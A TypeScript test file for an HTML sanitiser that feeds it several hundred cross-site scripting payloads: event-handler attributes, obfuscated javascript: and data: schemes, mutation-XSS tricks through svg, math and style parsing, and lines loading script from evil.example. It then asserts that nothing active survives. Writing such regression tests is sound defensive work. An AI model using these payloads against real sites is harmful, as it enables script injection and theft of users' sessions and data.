// A wide collection of ways to smuggle script through markup, by technique; the techniques are common knowledge.
import { parseHTML } from 'linkedom';
import { expect, test } from 'vitest';
import { sanitiseHtml } from './sanitise-html.ts';

const acts = 'steal()';
const handlers =
  'onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforeunload onblur oncanplay onchange onclick oncontextmenu oncopy oncut ondblclick ondrag ondragend ondrop onerror onfocus onfocusin onfullscreenchange onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadstart onmessage onmousedown onmouseenter onmousemove onmouseout onmouseover onmouseup onpageshow onpaste onplay onpointerdown onpointerenter onpointerrawupdate onpopstate onreset onresize onscroll onscrollend onsearch onseeked onselect onshow onsubmit ontoggle ontouchstart ontransitionend onunhandledrejection onunload onvolumechange onwheel'.split(
    ' ',
  );
const hosts = [
  'a',
  'b',
  'blockquote',
  'code',
  'details',
  'div',
  'figure',
  'img',
  'li',
  'p',
  'pre',
  'span',
  'td',
  'video',
];
const schemes = [
  'javascript:',
  'JAVASCRIPT:',
  'jAvAsCrIpT:',
  ' javascript:',
  '\tjavascript:',
  '\njavascript:',
  '\u0000javascript:',
  '\u0008javascript:',
  '\u001fjavascript:',
  '\u00a0javascript:',
  '\ufeffjavascript:',
  'java\tscript:',
  'java\nscript:',
  'java\rscript:',
  'javascript\t:',
  'javascript\n:',
  'java&Tab;script:',
  'java&NewLine;script:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript&#x3a;',
  'javascript&#0000058;',
  '&#x6A;avascript:',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;',
  '&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a',
  'vbscript:',
  'livescript:',
  'mocha:',
  'data:text/html,',
  'data:text/html;base64,',
  'data:text/xml,',
  'data:application/xhtml+xml,',
  'data:image/svg+xml,',
  'data:image/svg+xml;utf8,',
  'data:;base64,',
  'feed:javascript:',
  'view-source:javascript:',
  'jar:javascript:',
  'blob:',
  'filesystem:',
  'file:///',
  'ms-its:',
];
const addressed: ((address: string) => string)[] = [
  (address) => `<a href="${address}${acts}">x</a>`,
  (address) => `<a href='${address}${acts}'>x</a>`,
  (address) => `<img src="${address}${acts}">`,
  (address) => `<img data-src="${address}${acts}">`,
  (address) => `<img srcset="${address}${acts} 2x">`,
  (address) => `<video src="${address}${acts}" poster="${address}${acts}"></video>`,
  (address) => `<audio><source src="${address}${acts}"></audio>`,
  (address) => `<blockquote cite="${address}${acts}">x</blockquote>`,
  (address) => `<area href="${address}${acts}"><map><area href="${address}${acts}"></map>`,
  (address) => `<form action="${address}${acts}"><button formaction="${address}${acts}">x</button></form>`,
];
const breaking = [
  '<svg><script>steal()</script></svg>',
  '<svg><script href="data:,steal()"/></svg>',
  '<svg><animate attributeName=href values=javascript:steal() /><a id=x><text>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=steal()>',
  '<svg><foreignObject><body onload=steal()></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=steal()>#x"/></svg>',
  '<svg><style><img src=x onerror=steal()></style></svg>',
  '<svg></p><style><a title="</style><img src=x onerror=steal()>">',
  '<svg><title><![CDATA[</title><img src=x onerror=steal()>]]></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:steal()">x</maction></math>',
  '<math href="javascript:steal()">x</math>',
  '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=steal() src=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>',
  '<math><annotation-xml encoding="text/html"><script>steal()</script></annotation-xml></math>',
  '<noscript><style></noscript><img src=x onerror=steal()>',
  '<noembed><img title="</noembed><img src=x onerror=steal()>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=steal()>"></noframes>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<iframe src=javascript:steal()>',
  '<frameset><frame src=javascript:steal()></frameset>',
  '<object data="data:text/html,<script>steal()</script>"></object>',
  '<object><param name=src value="javascript:steal()"></object>',
  '<embed src=javascript:steal()>',
  '<applet code=x></applet>',
  '<portal src="javascript:steal()"></portal>',
  '<script>steal()',
  '<script/src=//evil.example></script>',
  '<script\n>steal()</script\n>',
  '<<script>steal()//<</script>',
  '<scr\u0000ipt>steal()</scr\u0000ipt>',
  '<ſcript>steal()</ſcript>',
  '<script type="text/plain"></script><script>steal()</script>',
  '</script><script>steal()</script>',
  '</title><script>steal()</script>',
  '</textarea><script>steal()</script>',
  '--><script>steal()</script>',
  ']]><script>steal()</script>',
  '"><script>steal()</script>',
  "'><img src=x onerror=steal()>",
  '<img src="x` `<script>steal()</script>"` `>',
  '<img src=x:x onerror\n=\nsteal()>',
  '<img/src="x"/onerror=steal()>',
  '<img src=x onerror=steal()//',
  '<img src=x\u000conerror=steal()>',
  '<img src=x alt="a" "onerror=steal() "',
  "<img alt='><img src=x onerror=steal()>'>",
  '<a href="x"onclick=steal()>x</a>',
  '<a title="</a><img src=x onerror=steal()>" href=x>x</a>',
  '<p title="x" / onmouseover=steal()>x</p>',
  '<!-- --!><img src=x onerror=steal()> -->',
  '<!--[if gte IE 4]><script>steal()</script><![endif]-->',
  '<!doctype html [<!entity x "<script>steal()</script>">]>&x;',
  '<?import namespace="t" implementation="#default#time2"><script>steal()</script>',
  '<!DOCTYPE x><xml id=x><a><b>&lt;script>steal()&lt;/script></b></a></xml>',
  '<xss style="behavior:url(x.htc)">x</xss>',
  '<div style="width:expression(steal())">x</div>',
  '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style><!--</style><script>steal()//--></script>',
  '<link rel=import href=//evil.example><link rel=preload href=x as=script>',
  '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv=refresh content="0;data:text/html,x">',
  '<base href=javascript:/a/><a href=//steal()>x</a>',
  '<details open ontoggle=steal()>x</details>',
  '<dialog open oncancel=steal()>x</dialog>',
  '<marquee onstart=steal()>x</marquee>',
  '<select autofocus onfocus=steal()><option>x</select>',
  '<input autofocus onfocus=steal()><isindex action=javascript:steal()>',
  '<keygen autofocus onfocus=steal()>',
  '<body background=javascript:steal()><table background=javascript:steal()>',
  '<template><img src=x onerror=steal()></template>',
  '<slot onslotchange=steal()></slot><x-y is=script>steal()</x-y>',
  '<img usemap="#m"><map name=m><area href=javascript:steal()></map>',
  '<a ping="//evil.example" target="_blank" href="https://ok.example">x</a>',
  '<img name=getElementById><form id=body><input name=nodeName></form>',
  '\uff1cscript\uff1esteal()\uff1c/script\uff1e<script>steal()</script>',
  '+ADw-script+AD4-steal()+ADw-/script+AD4-<script>steal()</script>',
];

const attacks = [
  ...handlers.flatMap((handler, i) => {
    const host = hosts[i % hosts.length];
    return [`<${host} ${handler}="${acts}">x</${host}>`, `<${host} ${handler.toUpperCase()}=${acts} src=x href=x>x`];
  }),
  ...schemes.flatMap((scheme) => addressed.map((make) => make(scheme))),
  ...breaking,
];

const inert = new Set(
  'a abbr area article aside audio b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main map mark nav ol p picture pre q rp rt ruby s samp section small source span strike strong sub summary sup table tbody td tfoot th thead time tr track tt u ul var video wbr center font big address data'.split(
    ' ',
  ),
);
const safeAddress = /^(?:https?:|mailto:|tel:|ftp:|#|$|data:image\/(?:png|gif|jpe?g|webp|avif);base64,)/i;
const addresses = ['href', 'src', 'poster', 'cite', 'action', 'formaction', 'background', 'data', 'longdesc'];

test(`none of ${attacks.length} attacks leaves an element, an attribute or an address that acts`, () => {
  expect(attacks.length).toBeGreaterThan(500);
  const through: string[] = [];
  for (const attack of attacks) {
    const clean = sanitiseHtml(attack, { baseUrl: 'https://news.example/a' });
    const { document } = parseHTML(`<!doctype html><html><body>${clean}</body></html>`);
    for (const element of document.body.querySelectorAll('*')) {
      const names = element.getAttributeNames();
      const isHarmless =
        inert.has(element.localName) &&
        names.every((name) => !/^on|^style$|^srcdoc$|^id$|^ping$|^is$|:/i.test(name)) &&
        (element.localName === 'map' || !names.includes('name')) &&
        addresses.every((name) => safeAddress.test((element.getAttribute(name) ?? '').trim())) &&
        (element.getAttribute('srcset') ?? '').split(',').every((one) => safeAddress.test(one.trim()));
      if (!isHarmless) through.push(`${attack} → ${element.outerHTML}`);
    }
  }
  expect(through).toEqual([]);
});
